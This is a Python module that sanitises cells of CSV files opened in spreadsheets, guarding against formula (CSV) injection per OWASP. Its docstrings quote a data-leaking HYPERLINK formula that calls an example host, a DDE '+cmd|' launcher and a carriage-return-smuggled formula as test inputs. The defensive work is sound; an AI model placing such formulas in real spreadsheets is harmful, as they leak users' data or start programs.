"""Cells of the CSV files people open in a spreadsheet (fix-list.csv, the quarantine's reasons.csv).

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula: ``=HYPERLINK(…)`` leaks data on a click and ``+cmd|…`` can start a program (DDE). File names,
values and record codes come from the data, so every cell goes through ``spreadsheet_cell``, OWASP's rule
against CSV injection (https://owasp.org/www-community/attacks/CSV_Injection). Result formats read by tools
(SPARQL CSV/TSV) are data, not for spreadsheets, and stay exact.

A carriage return inside a cell is the other way in: Python's csv writer, with ``\n`` line ends, quotes a
cell for a line feed but not for a carriage return, and a spreadsheet ends the row at a bare one, so
``x\r=HYPERLINK(…)`` would put the formula at the start of the next row's first cell.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator

#: What a spreadsheet may read as the start of a formula: OWASP's list, tab and carriage return included.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: object) -> str:
    r"""``value`` as text a spreadsheet shows and never runs: a leading single quote when it starts like a
    formula (spreadsheets hide that quote and show the text), and each carriage return a line feed, which
    the csv writer quotes (spreadsheets show both as a line break); None is the empty cell.

    >>> spreadsheet_cell('=HYPERLINK("http://example.org/?"&A1,"click")')
    '\'=HYPERLINK("http://example.org/?"&A1,"click")'
    >>> spreadsheet_cell("Jyväskylä"), spreadsheet_cell(12), spreadsheet_cell(None), spreadsheet_cell("a\rb")
    ('Jyväskylä', '12', '', 'a\nb')
    """
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS):
        text = "'" + text
    return text.replace("\r\n", "\n").replace("\r", "\n")


#: Text gathered before ``spreadsheet_csv`` hands it on: large enough to write efficiently, small beside any file.
CHUNK_CHARS = 1 << 16


def spreadsheet_csv(header: Iterable[str], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    r"""A CSV file people open in a spreadsheet, in pieces of about ``CHUNK_CHARS``: the header, then every
    row, each cell through ``spreadsheet_cell``, with ``\n`` line ends. Written piece by piece (the atomic
    writer takes them as they come), a file of a million rows is never one string in memory.

    >>> "".join(spreadsheet_csv(("a", "b"), [("=1+1", None), (2, "x,y")]))
    'a,b\n\'=1+1,\n2,"x,y"\n'
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow([spreadsheet_cell(cell) for cell in row])
        if buffer.tell() >= CHUNK_CHARS:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()
